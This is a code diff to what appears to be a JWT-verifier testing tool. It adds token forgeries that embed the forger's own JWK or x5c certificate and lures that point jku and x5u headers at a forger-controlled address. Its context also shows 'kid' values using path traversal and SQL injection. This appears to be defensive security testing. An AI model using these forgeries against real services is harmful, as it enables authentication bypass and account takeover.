@@ -15,6 +15,7 @@ from collections.abc import Callable, Mapping
 from dataclasses import dataclass
 from functools import cache
 from typing import Any
+from urllib.parse import quote
 
 import jwt
 from cryptography import x509
@@ -177,6 +178,11 @@ def _x5c(good: Original) -> dict[str, Any]:
     return {"x5c": [base64.b64encode(own_certificate(good.algorithm)).decode()]}
 
 
+def _with_the_kid(good: Original) -> str:
+    """The address of a key set in which the forger's key goes by the good key's name."""
+    return f"{good.bait_url}/jwks?kid={quote(str(good.header.get('kid', '')), safe='')}"
+
+
 def _flipped(place: int) -> Callable[[bytes], bytes]:
     def change(signature: bytes) -> bytes:
         octets = bytearray(signature)
@@ -230,7 +236,12 @@ FORGERIES: Mapping[str, Forgery] = {
     "embedded-jwk-under-the-kid": foreign(
         lambda good: {"jwk": own_jwk(good.algorithm, kid=good.header.get("kid"))}
     ),
+    "embedded-jwk-under-a-kid-of-its-own": foreign(
+        lambda good: {"jwk": own_jwk(good.algorithm, kid="forger"), "kid": "forger"}
+    ),
     "x5c": foreign(_x5c),
+    "x5c-without-kid": foreign(lambda good: {**_x5c(good), "kid": None}),
+    "x5c-under-a-kid-of-its-own": foreign(lambda good: {**_x5c(good), "kid": "forger"}),
     "kid-of-an-empty-file": keyed("HS256", lambda _: b"", kid="../../../../../../dev/null"),
     "kid-of-a-file": keyed("HS256", lambda _: b"\n", kid="/proc/sys/kernel/core_uses_pid"),
     "kid-as-sql": keyed("HS256", lambda _: b"forged", kid="x' UNION SELECT 'forged' -- "),
@@ -240,7 +251,11 @@ FORGERIES: Mapping[str, Forgery] = {
 # These send the verifier to an address of the forger's, where the key that fits is served.
 LURES: Mapping[str, Forgery] = {
     "jku": foreign(lambda good: {"jku": f"{good.bait_url}/jwks", "kid": "forger"}),
+    "jku-under-the-kid": foreign(lambda good: {"jku": _with_the_kid(good)}),
+    "jku-without-kid": foreign(lambda good: {"jku": f"{good.bait_url}/jwks", "kid": None}),
     "x5u": foreign(lambda good: {"x5u": f"{good.bait_url}/x5u", "kid": "forger"}),
+    "x5u-under-the-kid": foreign(lambda good: {"x5u": f"{good.bait_url}/x5u"}),
+    "x5u-without-kid": foreign(lambda good: {"x5u": f"{good.bait_url}/x5u", "kid": None}),
     "kid-as-url": foreign(lambda good: {"kid": f"{good.bait_url}/jwks"}),
 }
 
